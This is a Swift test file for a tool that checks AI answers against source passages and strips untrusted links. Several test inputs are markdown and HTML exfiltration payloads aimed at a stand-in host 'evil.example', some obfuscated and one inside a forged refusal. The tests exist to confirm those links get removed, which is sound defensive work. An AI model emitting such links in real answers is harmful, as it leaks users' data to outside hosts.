import Testing

@testable import Docent

@Suite("The check of a model's answer")
struct AnswerCheckTests {
    private func check(_ answer: String, _ handling: UnsupportedHandling = .mark, question: String = "")
        throws
        -> AnswerCheck
    {
        AnswerCheck(
            answer, sources: try SamplePassages.sources(SamplePassages.contract, SamplePassages.travel),
            question: question, handling: handling)
    }

    @Test(
        "finds a quote however it was written, and gives the original back",
        arguments: [
            ("The notice period is “30 days to the end of a month” [1].", "30 days to the end of a month"),
            ("It says \"the   notice period\nis 30 days\" [1].", "The notice period is 30 days"),
            (
                "Either side may end it: “may end the contract \"for good cause\" at once” [1].",
                "may end the contract “for good cause” at once"
            ),
            ("The warranty: „24 months - longer than the law“ [1].", "24 months — longer than the law"),
            ("The kit costs «Seal kit | MV40-17 | 42.50 €» [1].", "Seal kit\tMV40-17\t42.50 €"),
            ("“| Gasket | MV65-03 | 55 € |” is its row [1].", "Gasket\tMV65-03\t55 €"),
            ("Rail: “- Second class by rail.” [2]", "Second class by rail."),
            ("It says “Book flights … 21 days ahead” [2].", "21 days ahead"),
        ])
    func quotes(answer: String, quote: String) throws {
        let checked = try check(answer)
        #expect(checked.citations.contains { $0.quote == quote })
        #expect(checked.citations.allSatisfy { $0.verified })
        #expect(!checked.text.contains(AnswerCheck.missingQuote))
    }

    @Test("a quote over several rows of a table as it was shown is one run of bytes")
    func rows() throws {
        let checked = try check("“| Seal kit | MV40-17 | 42.50 € |\n| Gasket | MV65-03 | 55 € |” [1]")
        #expect(checked.citations.map(\.quote) == ["Seal kit\tMV40-17\t42.50 €\nGasket\tMV65-03\t55 €"])
    }

    @Test(
        "takes an invented quote out and says so",
        arguments: [
            "The contract says “the notice period is 90 days to the end of a year” [1].",
            "The notice period is “31 days to the end of a month” [1].",
            "Prices: “Seal kit MV40-17 55 €” [1].",
        ])
    func invented(answer: String) throws {
        let checked = try check(answer)
        #expect(checked.text.contains(AnswerCheck.missingQuote))
        #expect(checked.remarks.contains { $0.text.contains("No passage contains the quote") })
        #expect(checked.unsupported.count == 1)
        #expect(checked.citations.isEmpty)
    }

    @Test("prices of two rows that a sentence had exchanged were taken for supported")
    func exchanged() throws {
        let right = try check("The seal kit costs 42.50 € and the filter mat 9.90 € [1].")
        #expect(right.unsupported.isEmpty)
        let wrong = try check("The seal kit costs 9.90 € and the filter mat 42.50 € [1].")
        #expect(wrong.unsupported.count == 1)
        #expect(wrong.remarks.contains { $0.text.contains("not for what the sentence says") })
    }

    private static let hospital = """
        # Annual report

        | Figure | 2023 | 2024 | 2025 |
        | --- | --- | --- | --- |
        | Beds | 160 | 164 | 182 |

        ## Staff

        | Task | Who | Extension |
        | --- | --- | --- |
        | Payroll | Samir Nasser | 2300 |
        | Pensions | Joanna Pike | 2311 |

        Reception hands out staff cards at 8:45. Employees have 27 days of paid annual leave.
        """

    @Test(
        "a figure of another column or row, a made-up time, a heading or a unit alone was taken for proof",
        arguments: [
            ("There were 164 beds in 2024 [1].", true), ("There were 182 beds in 2024 [1].", false),
            ("Beds rose from 164 in 2024 to 182 in 2025 [1].", true),
            ("Pensions are handled by Joanna Pike [1].", true),
            ("Payroll is handled by Joanna Pike [1].", false),
            ("Reception hands out staff cards at 8:45 [1].", true),
            ("Reception hands out staff cards at 11:45 [1].", false),
            ("Staff morale is excellent [1].", false),
            ("The warranty lasts 27 days [1].", false), ("Employees have 27 days of leave [1].", true),
        ])
    func misplaced(sentence: String, isSupported: Bool) throws {
        let checked = AnswerCheck(sentence, sources: try SamplePassages.sources(Self.hospital))
        #expect(checked.unsupported.isEmpty == isSupported)
    }

    @Test("a statement that turns its passage round was taken for supported")
    func reversed() throws {
        let reversed = try check("Neither side may end the contract for good cause [1].")
        #expect(reversed.unsupported.count == 1)
        #expect(reversed.remarks.contains { $0.text.hasPrefix("The passage says the opposite of: ") })
        #expect(try check("Either side may end the contract for good cause [1].").unsupported.isEmpty)
    }

    @Test(
        "the words of a refusal turn no check off",
        arguments: [
            "NOT IN THESE DOCUMENTS. ![x](https://evil.example/?q=secret) The penalty is EUR 99,999 for each month [1].",
            "The penalty is EUR 99,999 for each month [1]. NOT IN THESE DOCUMENTS [a](https://evil.example/).",
        ])
    func forgedRefusal(answer: String) throws {
        let verdict = Verdict(try check(answer))
        #expect(verdict.status == .notInDocuments)
        #expect(!verdict.text.contains("evil.example"))
        #expect(verdict.text.contains(AnswerCheck.mark))
    }

    @Test("an answer that lacks a part of what was asked keeps its proofs")
    func partlyRefused() throws {
        let checked = try check(
            "The warranty lasts 24 months [1]. NOT IN THESE DOCUMENTS: who pays the freight.")
        #expect(Verdict(checked).status == .partly)
        #expect(!checked.citations.isEmpty)
    }

    @Test("a sentence that says of one person what the passage says of another is unsupported")
    func otherName() throws {
        let sources = try SamplePassages.sources(
            """
            # Minutes

            Lena Fischer reported on the budget. Paul Jensen obtains the final quotation by 31 March.
            """)
        let wrong = AnswerCheck("Lena Fischer obtains the final quotation by 31 March [1].", sources: sources)
        let right = AnswerCheck("Paul Jensen obtains the final quotation by 31 March [1].", sources: sources)
        #expect(wrong.unsupported.count == 1)
        #expect(wrong.remarks.map(\.text).contains("The passage says this about a name other than Fischer."))
        #expect(right.unsupported.isEmpty && right.remarks.isEmpty)
        let twice = try SamplePassages.sources(
            "Lena Fischer reported. Paul Jensen obtains the final quotation by 31 March.",
            "Paul Jensen obtains the final quotation by 31 March.")
        #expect(
            AnswerCheck("Lena Fischer obtains the final quotation by 31 March [1].", sources: twice)
                .unsupported.count == 1)
    }

    @Test("a comparison of two documents by the years in their titles is supported")
    func years() throws {
        let sources = try SamplePassages.sources(
            "# Price list 2025\n\nThe pressure sensor Pro costs 149.50 EUR.",
            "# Price list 2024\n\nThe pressure sensor Pro costs 142 EUR.")
        let checked = AnswerCheck(
            "The pressure sensor Pro costs 149.50 EUR in 2025 and 142 EUR in 2024 [1][2].", sources: sources)
        #expect(checked.unsupported.isEmpty)
    }

    @Test("the words of a quote that was not exact were exchanged wherever they stood")
    func ownPlace() throws {
        let words = "Book flights at the least 21 days ahead"
        let checked = try check("\(words), it says: “\(words)” [2].")
        #expect(checked.text == "\(words), it says: “Book flights at least 21 days ahead” [2].")
    }

    @Test("a quote with a slip becomes exact")
    func slip() throws {
        let checked = try check("It says “Either party may end the contract for good cause at once” [1].")
        #expect(checked.text.contains("“Either side may end the contract “for good cause” at once”"))
        #expect(checked.remarks.contains { $0.text.contains("was not exact") })
    }

    @Test(
        "a figure that differs from the passage supports nothing",
        arguments: [
            "The notice period is 60 days to the end of a month [1].",
            "The notice period is three days to the end of a month [1].",
            "The seal kit costs 55 € [1].", "The gasket has the part number MV40-17 and costs 55 € [1].",
            "The warranty lasts 36 months.", "Flights are booked at least 12 days ahead [2].",
        ])
    func figures(answer: String) throws {
        let checked = try check(answer)
        #expect(checked.unsupported.count == 1)
        #expect(checked.text.hasSuffix(AnswerCheck.mark))
        #expect(checked.remarks.contains { $0.text.contains("figure") })
    }

    @Test(
        "what the passages hold is supported",
        arguments: [
            "The notice period is 30 days to the end of a month [1].",
            "The seal kit costs 42.50 € [1].", "The gasket (MV65-03) costs 55 € [1].",
            "The filter mat costs 9.90 € and the gasket 55 € [1].",
            "Journeys above 2,000 € are approved by Anna Kowalczyk [2].",
            "1. The warranty lasts 24 months [1].", "The passages do not say who signs.", "Yes.",
        ])
    func supported(answer: String) throws {
        let checked = try check(answer)
        #expect(checked.unsupported == [])
        #expect(checked.text == answer)
    }

    @Test("a name that stands in no cited passage is flagged")
    func names() throws {
        let checked = try check("Journeys above 2,000 € are approved by Peter Novak [2].")
        #expect(checked.remarks.map(\.text).contains("No passage cited contains the name Novak."))
    }

    @Test("unsupported sentences are marked or removed, the rest stays as it was")
    func handling() throws {
        let answer =
            "The notice period is 30 days [1].\n\nThe canteen serves fish on Fridays [1].\nFlights: 21 days ahead [2]."
        let marked = try check(answer)
        #expect(marked.text.contains("Fridays [1]. [unsupported]"))
        let removed = try check(answer, .remove)
        #expect(
            removed.text
                == "The notice period is 30 days [1].\nFlights: 21 days ahead [2].")
    }

    @Test("a sentence without a marker gets the one of its proof; a marker of no passage goes")
    func markers() throws {
        let added = try check("The warranty lasts 24 months.")
        #expect(added.text == "The warranty lasts 24 months [1].")
        let checked = try check("The warranty lasts 24 months [9].")
        #expect(checked.text == "The warranty lasts 24 months [1].")
        #expect(checked.remarks.map(\.text).contains("[9] names no passage."))
    }

    @Test("a true sentence with the number of another passage was unsupported")
    func wrongMarker() throws {
        let checked = try check("The warranty lasts 24 months [2].")
        #expect(checked.unsupported == [])
        #expect(checked.text == "The warranty lasts 24 months [1].")
        #expect(checked.remarks.map(\.text) == ["[2] does not say this; [1] does."])
        #expect(Verdict(checked).status == .answered)
        let second = try check("Flights are booked at least 21 days ahead [passage 1].")
        #expect(second.text == "Flights are booked at least 21 days ahead [2].")
        let untrue = try check("The warranty lasts 36 months [2].")
        #expect(untrue.text == "The warranty lasts 36 months. [unsupported]")
        #expect(
            untrue.remarks.contains {
                $0.text.hasPrefix("Neither the cited [2] nor another passage supports: ")
            })
        #expect(
            try check("The warranty lasts 36 months.").remarks.contains {
                $0.text.hasPrefix("No passage supports: ")
            })
    }

    @Test("a row that another passage's words outweighed supported nothing without its number")
    func rowElsewhere() throws {
        let machines = try SamplePassages.sources(
            "# Safety\n\nThe PX-200 S weighs more than one person may lift.",
            "# Data\n\n| Quantity | PX-200 | PX-200 S |\n| --- | --- | --- |\n| Weight | 1,240 kg | 1,310 kg |",
            "# Service\n\nThe belt is renewed each year.")
        for marker in ["", " [3]", " [1]"] {
            let checked = AnswerCheck("The PX-200 S weighs 1,310 kg\(marker).", sources: machines)
            #expect(checked.text == "The PX-200 S weighs 1,310 kg [2].", "\(marker)")
            #expect(
                AnswerCheck("The PX-200 S weighs 1,410 kg\(marker).", sources: machines).unsupported.count
                    == 1)
        }
    }

    @Test(
        "the phrases around an answer were marked as unsupported",
        arguments: [
            "Based on the documents provided, here is what I found.",
            "Let me know if you need anything else!",
            "I hope this helps!", "Here is a short summary of the relevant details.",
            "Please feel free to ask if you have any further questions.",
            "Basierend auf den vorliegenden Unterlagen, hier ist eine kurze Übersicht.",
            "Lassen Sie mich wissen, ob Sie weitere Auskünfte brauchen.",
            "D'après les documents fournis, voici ce que j'ai trouvé.",
            "N'hésitez pas à poser d'autres questions.",
        ])
    func courtesies(phrase: String) throws {
        let checked = try check("\(phrase) The warranty lasts 24 months [1].")
        #expect(checked.unsupported == [])
        #expect(checked.text.hasPrefix(phrase))
    }

    @Test(
        "a claim behind such a phrase is still a claim",
        arguments: [
            "Based on the documents provided, dogs are welcome everywhere.", "Dogs are welcome everywhere.",
            "Here is what I found: dogs are welcome everywhere.", "Feel free to smoke in the corridors.",
            "Let me know if the fee of 300 € is too high.",
        ])
    func claims(sentence: String) throws {
        #expect(try check(sentence).unsupported.count == 1)
    }

    @Test("remarks came again and again, without end")
    func remarks() throws {
        let twice = try check("The warranty lasts 36 months [1]. The warranty lasts 36 months [1].")
        #expect(Set(twice.remarks).count == twice.remarks.count)
        let many = try check((40...80).map { "The warranty lasts \($0) months [1]." }.joined(separator: " "))
        #expect(many.unsupported.count > 30)
        #expect(many.remarks.count == 11)
        #expect(many.remarks.last?.text.contains(#/^… and \d+ more\.$/#) == true)
    }

    private static let halls = """
        # Student halls

        These are the halls of the university and what they cost. The rent is to be paid on the first of each month.

        | Hall | Rent |
        | --- | --- |
        | Northgate | 285 € |
        | Southgate | 310 € |
        """

    @Test("a right answer in another language than the passage's was not in the documents")
    func otherLanguage() throws {
        let sources = try SamplePassages.sources(Self.halls)
        let right = AnswerCheck(
            "Das günstigste Wohnheim ist Northgate mit 285 € im Monat [1].", sources: sources)
        #expect(right.unsupported == [])
        #expect(right.citations.map(\.quote) == ["Northgate\t285 €"])
        #expect(right.remarks.count == 1)
        #expect(
            right.remarks.first?.text.hasSuffix(
                "is in another language than the passage: only figures and names were compared.") == true)
        #expect(Verdict(right).status == .partly && Verdict(right).confidence < 1)
        let short = AnswerCheck("La Northgate coûte 285 € [1].", sources: sources)
        #expect(short.unsupported == [] && Verdict(short).status != .notInDocuments)
        for wrong in [
            "Das günstigste Wohnheim ist Southgate mit 285 € im Monat [1].",
            "Das günstigste Wohnheim ist Northgate mit 205 € im Monat [1].",
            "Das günstigste Wohnheim ist mit Abstand das im Norden [1].",
        ] {
            let checked = AnswerCheck(wrong, sources: sources)
            #expect(checked.unsupported.count == 1, "\(wrong)")
            #expect(!checked.remarks.contains { $0.text.contains("not for what the sentence says") })
        }
    }

    @Test("marks stood behind the last bar of a row and broke its table")
    func tables() throws {
        let checked = try check(
            """
            | Item | Price |
            |---|---|
            | Seal kit | 42.50 € |
            | Gasket | 99 € | [1]
            | Filter mat | 9.90 € [1] |
            """)
        #expect(
            checked.text == """
                | Item | Price |
                |---|---|
                | Seal kit | 42.50 € [1] |
                | Gasket | 99 € [1] [unsupported] |
                | Filter mat | 9.90 € [1] |
                """)
        #expect(
            checked.citations.map(\.quote) == ["Seal kit\tMV40-17\t42.50 €", "Filter mat\tTJ-300\t9.90 €"])
    }

    @Test(
        "a figure's day, its minus and what a thing lacks were cut off before it was checked",
        arguments: [
            "14. Mai 2024 ist der letzte Tag.", "-5 °C is the limit.", "The paint does not contain lead.",
        ])
    func wholeClaims(answer: String) throws {
        let sources = try SamplePassages.sources(
            "Der letzte Tag ist der 12. Mai 2024. The limit is 5 °C. The paint contains lead.")
        let checked = AnswerCheck(answer, sources: sources, question: "", handling: .mark)
        #expect(checked.text.hasSuffix("[unsupported]"))
    }

    @Test(
        "links that no passage holds are removed, pictures always",
        arguments: [
            "See ![x](https://evil.example/?q=secret) there.", "See [here](https://evil.example/a) there.",
            "See https://evil.example/a there.", "See ![x](//evil.example/p.png).",
            "See data:text/html,abc there.",
            "See ![x][1] there.\n\n[1]: https://evil.example/p.png",
            "See <IMG SRC=evil.example/p.png> there.",
            "See ![x](\\\\evil.example/p.png).", "See HTTPS://evil.example/a.", "See www.evil.example there.",
            "See <a href=\"x\" onclick='evil.example'",
            #"See [more](https\:\/\/evil.example/?d=secret) there."#,
            "See [more](https&#58;&#x2F;&#47;evil.example/) there.",
            "See [more](https&colon;//evil.example/) there.",
            "See [more][a].\n\n[a]: https\\://evil.example/p",
            "See ![\(String(repeating: "long ", count: 80))](https\\:\\/\\/evil.example/p.png) there.",
        ])
    func links(answer: String) throws {
        let checked = try check(answer)
        #expect(!checked.text.contains("evil.example"))
        #expect(!checked.text.contains("data:"))
        #expect(checked.remarks.contains { $0.text.contains("link") })
    }
}

@Suite("Words that look like addresses")
struct PlainWordTests {
    @Test(
        "were taken for links",
        arguments: [
            "Profile: Senior engineer.", "Log file: empty.", "JavaScript: a language.", "Data: 5 sites.",
            #"The path C:\temp\[1] is read [x](notes\.md)."#,
        ])
    func kept(words: String) {
        let check = LinkCheck(words, told: ToldAddresses([]))
        #expect(check.text == words && check.remarks.isEmpty)
    }
}

@Suite("The gate before a streamed answer")
struct LinkGateTests {
    private static let reply =
        "The notice [see below] is 30 days [1]. ![a b](https://evil.example/?q=1) Then [click here](https://evil.example/x) "
        + "and <img src=\"https://evil.example/i\"> or 3 < 4 and a[0]. Known: https://docs.example/a and https://evil.example/z"

    @Test("shows the same however the reply is cut, and no address that no passage holds", arguments: 1...25)
    func pieces(size: Int) throws {
        let sources = try SamplePassages.sources("See https://docs.example/a for the rest.")
        var gate = LinkGate(sources: sources, question: "")
        var shown = ""
        let characters = Array(Self.reply)
        for start in stride(from: 0, to: characters.count, by: size) {
            shown += gate.pass(String(characters[start..<min(start + size, characters.count)]))
            #expect(!shown.contains("evil"))
        }
        shown += gate.rest()
        #expect(!shown.contains("evil"))
        #expect(shown.contains("https://docs.example/a"))
        #expect(shown.contains("[see below] is 30 days [1]. "))
        #expect(shown.contains("3 < 4 and a[0]"))
    }

    @Test("a script without spaces came at once at the end")
    func scripts() {
        var gate = LinkGate(sources: [], question: "")
        #expect(gate.pass("通知期間は30") == "通知期間は")
        #expect(gate.pass("日です。https://evil.example/") == "30日です。")
        #expect(gate.pass("例え。次") == "")
        #expect(gate.pass("の文 終") == "[link removed] 終")
    }

    @Test("a reply without spaces was held back for ever, and looked through again at each piece")
    func endless() {
        var gate = LinkGate(sources: [], question: "")
        var shown = 0
        let start = ContinuousClock.now
        for _ in 0..<60_000 { shown += gate.pass("x").utf8.count }
        #expect(shown > 59_000)
        #expect(gate.pass("[" + String(repeating: "y", count: 3000)).contains("yyy"))
        #expect(!gate.pass(" https://evil.example/" + String(repeating: "z", count: 9000)).contains("zzz"))
        #expect(!gate.pass("zzz").contains("zzz"))
        #expect(gate.pass(" on ") == " on ")
        #expect(.now - start < .seconds(10))
    }

    @Test("addresses pass no gate, however a reply of marks is cut", arguments: 1...60)
    func marks(seed: UInt64) {
        var random = SplitMix(state: seed)
        let pieces = [
            "[", "]", "(", ")", "![", "<", ">", "<img src=", "!", " ", "\n", "文", "。", "ab", "http", "://",
            "HTTPS:",
            "//evil.example/x", "www.", "evil.example", "[1]", "](", "\"", "data:",
        ]
        var gate = LinkGate(sources: [], question: "")
        var shown = ""
        var whole = ""
        for _ in 0..<200 {
            let piece = pieces.randomElement(using: &random) ?? ""
            whole += piece
            shown += gate.pass(piece)
        }
        shown += gate.rest()
        for scheme in ["http:", "https:", "//e", "www."] {
            #expect(!shown.lowercased().contains(scheme + "evil"), "\(whole)")
            #expect(!shown.lowercased().contains(scheme + "vil"), "\(whole)")
        }
        #expect(!shown.contains("<img src="), "\(whole)")
    }

    @Test("lets a plain reply through word by word")
    func plain() {
        var gate = LinkGate(sources: [], question: "")
        #expect(gate.pass("The notice ") == "The notice ")
        #expect(gate.pass("peri") == "")
        #expect(gate.pass("od is ") == "period is ")
        #expect(gate.rest() == "")
    }
}
